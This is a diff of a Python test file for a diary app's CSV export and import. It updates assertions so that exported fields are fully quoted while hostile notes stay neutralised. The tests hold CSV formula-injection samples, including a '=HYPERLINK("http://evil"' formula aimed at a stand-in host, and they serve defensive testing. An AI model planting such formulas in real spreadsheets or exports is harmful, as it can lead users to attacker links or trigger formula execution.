@@ -11,7 +11,7 @@ from diary.extensions import db
 from diary.models import Reading, User
 from diary.transfer import ImportRejected, export_files, import_files
 from diary.transfer.cells import neutralise, restore
-from tests.conftest import sign_in
+from tests.conftest import quote_all, sign_in
 
 HEADER = "recorded_at,pain,note\r\n"
 HOSTILE_NOTES = [
@@ -65,7 +65,7 @@ def test_export_import_export_is_byte_identical_with_hostile_notes(app, alice, b
         )
         db.session.commit()
         exported = export_files(alice_user)["readings.csv"]
-        assert "2024-02-01T09:01,1,'+1+1\r\n" in exported
+        assert '"2024-02-01T09:01","1","\'+1+1"\r\n' in exported
         assert ',"\'=HYPERLINK(""http://evil""' in exported
         summary = import_files(user_in(app, "bob"), {"readings.csv": exported.encode()})
         db.session.commit()
@@ -168,9 +168,11 @@ def test_web_download_is_a_csv_attachment_of_own_data_only(app, client, alice, b
     response = client.get("/export/readings.csv")
     assert response.headers["Content-Disposition"] == 'attachment; filename="readings.csv"'
     assert response.mimetype == "text/csv"
-    assert response.get_data(as_text=True) == HEADER + "2024-01-01T08:00,5,mine\r\n"
+    assert response.get_data(as_text=True) == quote_all(HEADER + "2024-01-01T08:00,5,mine\r\n")
     archive = zipfile.ZipFile(io.BytesIO(client.get("/export/diary.zip").data))
-    assert archive.read("readings.csv").decode() == HEADER + "2024-01-01T08:00,5,mine\r\n"
+    assert archive.read("readings.csv").decode() == quote_all(
+        HEADER + "2024-01-01T08:00,5,mine\r\n"
+    )
     assert client.get("/export/passwords.csv").status_code == 404
 
 
